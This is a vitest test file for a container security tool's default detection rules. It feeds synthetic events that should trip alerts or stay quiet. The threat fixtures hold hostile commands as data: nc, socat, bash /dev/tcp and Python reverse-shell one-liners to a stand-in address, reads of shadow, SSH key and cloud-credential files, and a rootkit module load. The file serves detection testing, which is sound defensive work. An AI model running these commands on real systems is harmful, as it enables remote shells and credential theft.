import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { DEFAULT_RULES_FILE } from '../../../../src/runtime/rules/default-rules.js';
import { compileRules } from '../../../../src/runtime/rules/engine.js';
import type { Event } from '../../../../src/types.js';
import { sharedDir } from '../../../helpers/components.js';

const text = readFileSync(DEFAULT_RULES_FILE, 'utf8');
const loaded = compileRules([{ file: 'ringfence_rules.yaml', text }]);
const fire = (e: Event) => loaded.ruleset.evaluate(e).map((a) => a.rule);

const container = {
  id: '3f1a9c2b7d10',
  name: 'shop-web',
  image: 'registry.local/shop/web:2.3',
  startTs: 1_700_000_000_000,
};
const shim = {
  pid: 900,
  name: 'containerd-shim',
  exepath: '/usr/bin/containerd-shim-runc-v2',
  cmdline: 'containerd-shim -namespace moby',
};
let ts = 1_700_000_100_000;

type ProcParts = Partial<Event['proc']> & { name: string };
function proc(p: ProcParts): Event['proc'] {
  const args = p.args ?? [];
  return {
    pid: 1000,
    ppid: 900,
    tid: 1000,
    vpid: 12,
    exe: p.name,
    exepath: `/usr/bin/${p.name}`,
    cmdline: [p.name, ...args].join(' '),
    args,
    uid: 1000,
    gid: 1000,
    user: 'app',
    tty: 0,
    ancestors: [{ pid: 500, name: 'node', exepath: '/usr/local/bin/node', cmdline: 'node server.js' }, shim],
    ...p,
  };
}
function exec(p: ProcParts, extra: Partial<Event> = {}): Event {
  return { ts: ts++, type: 'execve', proc: proc(p), evt: { res: 0 }, container, ...extra };
}
function open(file: string, flags: string, p: ProcParts, extra: Partial<Event> = {}): Event {
  return {
    ts: ts++,
    type: 'openat',
    proc: proc(p),
    fd: { num: 5, name: file, type: 'file' },
    evt: { args: { flags }, res: 5 },
    container,
    ...extra,
  };
}
const read = (file: string, p: ProcParts) => open(file, 'O_RDONLY|O_CLOEXEC', p);
const write = (file: string, p: ProcParts) => open(file, 'O_WRONLY|O_CREAT|O_TRUNC', p);
function connect(fd: Event['fd'], p: ProcParts, res = 0): Event {
  return { ts: ts++, type: 'connect', proc: proc(p), fd, evt: { res }, container };
}
const tcp = (sip: string, sport: number, sipName?: string): Event['fd'] => ({
  type: sip.includes(':') ? 'ipv6' : 'ipv4',
  l4proto: 'tcp',
  cip: '172.17.0.2',
  cport: 41000,
  sip,
  sport,
  name: `172.17.0.2:41000->${sip}:${sport}`,
  ...(sipName ? { sipName } : {}),
});
const host = { container: undefined };

describe("Ringfence's default rules", () => {
  it('load and compile without problems, each with a description, a remediation and ATT&CK tags', () => {
    expect(loaded.problems).toEqual([]);
    expect(loaded.counts.failed).toBe(0);
    expect(loaded.ruleset.eventTypes().anyTypeRules).toEqual([]);
    for (const rule of loaded.ruleset.rules) {
      expect(rule.desc.length, rule.name).toBeGreaterThan(60);
      expect(rule.desc, rule.name).toBe(rule.desc.trim());
      expect(rule.remediation?.length ?? 0, rule.name).toBeGreaterThan(40);
      expect(
        rule.tags.some((t) => /^T\d{4}(\.\d{3})?$/.test(t)),
        rule.name,
      ).toBe(true);
      expect(
        rule.tags.some((t) => t.startsWith('mitre_')),
        rule.name,
      ).toBe(true);
    }
    process.stdout.write(
      `ringfence_rules.yaml: ${loaded.counts.rules} rules, ${loaded.counts.macros} macros, ${loaded.counts.lists} lists\n`,
    );
  });

  const threats: [string, Event, string][] = [
    [
      'docker exec of a shell',
      exec({ name: 'bash', tty: 34816, ancestors: [shim] }),
      'Shell started in a container by exec',
    ],
    [
      'sh -c through runc exec',
      exec({ name: 'sh', args: ['-c', 'id'], ancestors: [{ pid: 950, name: 'runc:[2:INIT]' }, shim] }),
      'Shell started in a container by exec',
    ],
    [
      'a shell under php-fpm',
      exec({
        name: 'sh',
        args: ['-c', 'id'],
        ancestors: [
          { pid: 600, name: 'php-fpm8.2' },
          { pid: 1, name: 'php-fpm8.2' },
        ],
      }),
      'Shell spawned by a server process',
    ],
    [
      'apt-get in a running container',
      exec({
        name: 'apt-get',
        args: ['install', '-y', 'nmap'],
        ancestors: [{ pid: 700, name: 'bash' }, shim],
      }),
      'Package manager run in a running container',
    ],
    [
      'a binary from the upper layer',
      exec({ name: 'tool', exepath: '/usr/bin/tool', isExeUpperLayer: true }),
      'Drift - executable not from the image',
    ],
    [
      'a binary changed after start',
      exec({ name: 'ls', exeCtime: 1_700_000_050_000 }),
      'Drift - executable not from the image',
    ],
    [
      'a binary in /tmp',
      exec({ name: 'x', exe: '/tmp/x', exepath: '/tmp/x' }),
      'Executable run from a temporary directory',
    ],
    [
      './run in /dev/shm',
      exec({ name: 'run', exe: './run', exepath: '/dev/shm/.a/run', cwd: '/dev/shm/.a' }),
      'Executable run from a temporary directory',
    ],
    [
      'sh /dev/shm/x.sh',
      exec({ name: 'sh', exepath: '/usr/bin/dash', args: ['/dev/shm/x.sh'] }),
      'Executable run from a temporary directory',
    ],
    [
      'a script in /dev/shm run directly',
      exec({ name: 'x.sh', exe: '/bin/sh', exepath: '/usr/bin/dash', args: ['/dev/shm/x.sh'] }),
      'Executable run from a temporary directory',
    ],
    [
      'a memfd executable',
      exec({ name: '3', exepath: 'memfd:payload (deleted)', isExeFromMemfd: true }),
      'Fileless execution from memory',
    ],
    ['cat /etc/shadow', read('/etc/shadow', { name: 'cat', args: ['/etc/shadow'] }), 'Password file read'],
    ['an SSH key', read('/root/.ssh/id_ed25519', { name: 'cat' }), 'Private key read'],
    ['an SSH host key', read('/etc/ssh/ssh_host_rsa_key', { name: 'python3' }), 'Private key read'],
    ['AWS credentials', read('/home/app/.aws/credentials', { name: 'curl' }), 'Cloud credentials read'],
    ['a kubeconfig', read('/root/.kube/config', { name: 'python3' }), 'Cloud credentials read'],
    ['echo >> /etc/passwd', write('/etc/passwd', { name: 'sh' }), 'Write below /etc in a container'],
    ['ld.so.preload', write('/etc/ld.so.preload', { name: 'python3' }), 'Write below /etc in a container'],
    [
      'cp into /usr/bin',
      write('/usr/bin/sshd-helper', { name: 'cp' }),
      'Write below a binary directory in a container',
    ],
    [
      'mv into /usr/local/bin',
      {
        ts: ts++,
        type: 'renameat2',
        proc: proc({ name: 'mv' }),
        evt: { args: { oldpath: '/tmp/x', newpath: '/usr/local/bin/x' }, res: 0 },
        container,
      },
      'Write below a binary directory in a container',
    ],
    [
      'PTRACE_ATTACH',
      {
        ts: ts++,
        type: 'ptrace',
        proc: proc({ name: 'python3' }),
        evt: { args: { request: 'PTRACE_ATTACH', pid: 1 }, res: 0 },
        container,
      },
      'Process attached with ptrace',
    ],
    [
      'a privileged container starting',
      exec({ name: 'sleep', vpid: 1, ancestors: [shim] }, { container: { ...container, privileged: true } }),
      'Privileged container started',
    ],
    [
      'docker.sock mounted',
      exec(
        { name: 'agent', vpid: 1, ancestors: [shim] },
        {
          container: {
            ...container,
            mounts: [{ source: '/var/run/docker.sock', dest: '/var/run/docker.sock', rw: true }],
          },
        },
      ),
      'Container runtime socket mounted into a container',
    ],
    [
      'docker.sock used',
      connect({ type: 'unix', name: '/var/run/docker.sock' }, { name: 'curl' }),
      'Container runtime socket used from a container',
    ],
    [
      'mount in a container',
      {
        ts: ts++,
        type: 'mount',
        proc: proc({ name: 'mount' }),
        evt: { args: { dev: '/dev/sda1', dir: '/mnt', type: 'ext4' }, res: 0 },
        container,
      },
      'Mount inside a container',
    ],
    [
      'insmod in a container',
      {
        ts: ts++,
        type: 'finit_module',
        proc: proc({ name: 'insmod', args: ['rootkit.ko'] }),
        evt: { res: 0 },
        container,
      },
      'Kernel module loaded',
    ],
    [
      'insmod on the host',
      { ts: ts++, type: 'init_module', proc: proc({ name: 'insmod' }), evt: { res: 0 }, ...host },
      'Kernel module loaded',
    ],
    [
      'setuid(0) by uid 1000',
      {
        ts: ts++,
        type: 'setuid',
        proc: proc({ name: 'exploit', uid: 1000 }),
        evt: { args: { uid: 0 }, res: 0 },
        container,
      },
      'Setuid to root in a container',
    ],
    [
      'setresuid(0,0,0)',
      {
        ts: ts++,
        type: 'setresuid',
        proc: proc({ name: 'x', uid: 33 }),
        evt: { args: { ruid: 0, euid: 0, suid: 0 }, res: 0 },
        container,
      },
      'Setuid to root in a container',
    ],
    [
      'a container starting as root',
      exec({ name: 'nginx', vpid: 1, uid: 0, user: 'root', ancestors: [shim] }),
      'Container running as root',
    ],
    ['xmrig', exec({ name: 'xmrig' }), 'Cryptominer started'],
    [
      'a renamed miner with a stratum URL',
      exec({ name: 'kworker', args: ['-o', 'stratum+tcp://pool.example:3333', '-u', 'wallet'] }),
      'Mining pool URL on a command line',
    ],
    [
      'a connection to pool port 3333',
      connect(tcp('45.9.148.1', 3333), { name: 'kworker' }),
      'Connection to a mining pool',
    ],
    [
      'a connection to a pool domain',
      connect(tcp('51.15.1.1', 443, 'xmr-eu1.nanopool.org'), { name: 'kworker' }),
      'Connection to a mining pool',
    ],
    [
      'an in-progress connection to a pool',
      connect(tcp('2001:db8::5', 14444), { name: 'kworker' }, -115),
      'Connection to a mining pool',
    ],
    [
      'nc -e',
      exec({ name: 'nc', args: ['-e', '/bin/sh', '10.9.9.9', '4444'] }),
      'Netcat or socat started a program for the network',
    ],
    [
      'socat exec',
      exec({ name: 'socat', args: ['TCP:10.9.9.9:4444', 'EXEC:/bin/bash'] }),
      'Netcat or socat started a program for the network',
    ],
    [
      'bash /dev/tcp',
      exec({ name: 'bash', args: ['-c', 'bash -i >& /dev/tcp/10.9.9.9/4444 0>&1'] }),
      'Reverse shell through /dev/tcp',
    ],
    [
      'a python reverse shell',
      exec({
        name: 'python3',
        args: [
          '-c',
          'import socket,os,pty;s=socket.socket();s.connect(("10.9.9.9",4444));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")',
        ],
      }),
      'Reverse shell from a script one-liner',
    ],
    [
      'dup2 of a socket onto stdout',
      {
        ts: ts++,
        type: 'dup2',
        proc: proc({ name: 'bash' }),
        fd: tcp('10.9.9.9', 4444),
        evt: { res: 1 },
        container,
      },
      'Standard input or output redirected to a network connection',
    ],
  ];

  for (const [what, e, rule] of threats) {
    it(`${rule}: ${what}`, () => {
      const alerts = loaded.ruleset.evaluate(e);
      expect(alerts.map((a) => a.rule)).toContain(rule);
      const alert = alerts.find((a) => a.rule === rule)!;
      expect(alert.output).not.toMatch(/^\s|\s$/);
      if (e.container) expect(alert.output).toContain(`container_id=${e.container.id}`);
    });
  }

  it('every rule has at least one threat above that fires it', () => {
    const covered = new Set(threats.map(([, , rule]) => rule));
    expect(loaded.ruleset.rules.map((r) => r.name).filter((n) => !covered.has(n))).toEqual([]);
  });

  const archiver = { ...container, id: '9e8d7c6b5a40', name: 'archiver', image: 'debian:12' };
  const benign: [string, Event][] = [
    [
      'the container entrypoint shell',
      exec(
        {
          name: 'sh',
          vpid: 1,
          args: ['-c', 'tar czf /tmp/usr.tgz /usr && xz -T2 -k /tmp/usr.tar'],
          ancestors: [shim],
        },
        { container: archiver },
      ),
    ],
    [
      'tar',
      exec(
        { name: 'tar', args: ['czf', '/tmp/usr.tgz', '/usr'], ancestors: [{ pid: 1, name: 'sh' }, shim] },
        { container: archiver },
      ),
    ],
    ['tar reading /usr', read('/usr/lib/x86_64-linux-gnu/libc.so.6', { name: 'tar' })],
    ['tar reading /etc/passwd for owners', read('/etc/passwd', { name: 'tar' })],
    [
      'gzip started by tar',
      exec(
        { name: 'gzip', args: ['-c'], ancestors: [{ pid: 50, name: 'tar' }, { pid: 1, name: 'sh' }, shim] },
        { container: archiver },
      ),
    ],
    [
      'zstd through tar -I',
      exec(
        {
          name: 'sh',
          args: ['-c', 'zstd -19'],
          ancestors: [{ pid: 50, name: 'tar' }, { pid: 1, name: 'sh' }, shim],
        },
        { container: archiver },
      ),
    ],
    ['the archive written in /tmp', write('/tmp/usr.tgz', { name: 'tar' })],
    ['extraction below /tmp', write('/tmp/out/usr/bin/ls', { name: 'tar' })],
    ['xz', exec({ name: 'xz', args: ['-T2', '-k', '/tmp/usr.tar'] }, { container: archiver })],
    ['nginx reading its TLS key', read('/etc/ssl/private/server.key', { name: 'nginx' })],
    ['nginx reading config', read('/etc/nginx/nginx.conf', { name: 'nginx' })],
    ['a service connecting to a private upstream', connect(tcp('10.0.3.7', 8080), { name: 'nginx' })],
    ['DNS to the cluster resolver', connect({ ...tcp('10.96.0.10', 53), l4proto: 'udp' }, { name: 'node' })],
    ['HTTPS to a public API', connect(tcp('140.82.112.3', 443, 'api.github.com'), { name: 'node' })],
    [
      'a non-root container starting',
      exec({ name: 'node', vpid: 1, args: ['server.js'], ancestors: [shim] }),
    ],
    ['sshd reading shadow on the host', { ...read('/etc/shadow', { name: 'sshd' }), ...host }],
    ['apt-get on the host', { ...exec({ name: 'apt-get', args: ['upgrade'] }), ...host }],
    [
      'dpkg under apt in a container',
      exec({ name: 'dpkg', ancestors: [{ pid: 70, name: 'apt-get' }, shim] }),
    ],
    ['an image binary', exec({ name: 'ls', exeCtime: 1_699_000_000_000, isExeUpperLayer: false })],
    [
      'modprobe on the host',
      { ts: ts++, type: 'finit_module', proc: proc({ name: 'modprobe' }), evt: { res: 0 }, ...host },
    ],
    [
      'setuid to a lower user',
      {
        ts: ts++,
        type: 'setuid',
        proc: proc({ name: 'nginx', uid: 0 }),
        evt: { args: { uid: 101 }, res: 0 },
        container,
      },
    ],
    [
      'PTRACE_TRACEME',
      {
        ts: ts++,
        type: 'ptrace',
        proc: proc({ name: 'app' }),
        evt: { args: { request: 'PTRACE_TRACEME' }, res: 0 },
        container,
      },
    ],
    [
      'runc mounting during setup',
      { ts: ts++, type: 'mount', proc: proc({ name: 'runc:[2:INIT]' }), evt: { res: 0 }, container },
    ],
    [
      'dup2 of a pipe',
      {
        ts: ts++,
        type: 'dup2',
        proc: proc({ name: 'bash' }),
        fd: { type: 'pipe', num: 3 },
        evt: { res: 1 },
        container,
      },
    ],
    [
      'python doing sockets without a shell',
      exec({ name: 'python3', args: ['-c', 'import socket; print(socket.gethostname())'] }),
    ],
    [
      'a Go test binary on the host',
      { ...exec({ name: 'pkg.test', exepath: '/tmp/go-build123/b001/pkg.test' }), ...host },
    ],
  ];

  for (const [what, e] of benign) {
    it(`stays quiet: ${what}`, () => {
      expect(fire(e)).toEqual([]);
    });
  }

  const shared = sharedDir();
  it.skipIf(!shared)("loads beside Falco's own files without clashing", () => {
    const falco = ['falco_rules.yaml', 'falco-incubating_rules.yaml', 'falco-sandbox_rules.yaml'].map(
      (f) => ({
        file: f,
        text: readFileSync(join(shared!, 'corpora/falco-rules', f), 'utf8'),
      }),
    );
    const both = compileRules([...falco, { file: 'ringfence_rules.yaml', text }]);
    expect(both.problems.filter((p) => p.severity === 'error')).toEqual([]);
    expect(both.counts.rules).toBe(93 + loaded.counts.rules);
  });
});
